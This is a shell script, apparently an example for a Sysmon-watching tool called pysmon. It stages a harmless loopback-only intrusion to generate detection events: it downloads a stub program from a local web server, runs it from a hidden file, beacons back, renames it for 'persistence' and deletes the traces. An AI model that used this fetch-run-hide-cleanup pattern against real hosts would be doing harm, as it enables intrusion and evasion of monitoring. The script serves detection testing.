#!/bin/sh
# A harmless intrusion, staged for a look at what pysmon sees:
#     make run CMD="sh examples/intrusion.sh"
# It downloads a program from a web server of its own on this machine, runs it, and removes the traces. Nothing leaves
# the machine (loopback only), nothing stays behind. The numbers are those of Sysmon's events; every command below is
# besides a ProcessCreate (1) and, when it ends, a ProcessTerminate (5).
set -eu

stage=$(mktemp -d)
server=
finish() {
    [ -z "$server" ] || kill "$server" 2>/dev/null || :
    [ -z "$server" ] || wait "$server" 2>/dev/null || :
    rm -rf "$stage"
}
trap finish EXIT
mkdir "$stage/web" "$stage/home"

# The attacker's web server. It takes a free port and tells it in a file.
printf '#!/bin/sh\necho "payload: running as $(id -un)"\n' >"$stage/web/update.sh"
python3 - "$stage/web" "$stage/port" >/dev/null 2>&1 <<'SERVER' &
import functools, http.server, os, sys
folder, port_file = sys.argv[1:]
handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=folder)
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
with open(port_file + ".new", "w") as out:
    out.write(str(server.server_port))
os.rename(port_file + ".new", port_file)
server.serve_forever()
SERVER
server=$!
tries=0
until [ -e "$stage/port" ]; do
    tries=$((tries + 1))
    [ $tries -lt 100 ] || { echo "intrusion: the web server did not start" >&2; exit 1; }
    sleep 0.1
done
url=http://127.0.0.1:$(cat "$stage/port")/update.sh

# A look around: who am I, what is this machine?
id >/dev/null
uname -a >/dev/null

# A name is looked up.
getent hosts localhost >/dev/null || :

# The download: NetworkConnect (3) by the one who asks and by the one who answers, FileCreate (11) of the program.
if command -v curl >/dev/null; then
    curl -s -o "$stage/home/.update" "$url"
else
    python3 -c 'import sys, urllib.request; urllib.request.urlretrieve(*sys.argv[1:])' "$url" "$stage/home/.update"
fi

# The hidden file is made executable and run: ProcessCreate (1) of it, with this shell as its parent.
chmod +x "$stage/home/.update"
"$stage/home/.update"

# The program calls home: NetworkConnect (3) again.
python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", int(sys.argv[1]))).close()' "$(cat "$stage/port")"

# Persistence under an innocent name: FileCreate (11) by the rename.
mv "$stage/home/.update" "$stage/home/.profile"

# The traces are removed: FileDelete (23).
rm "$stage/home/.profile"
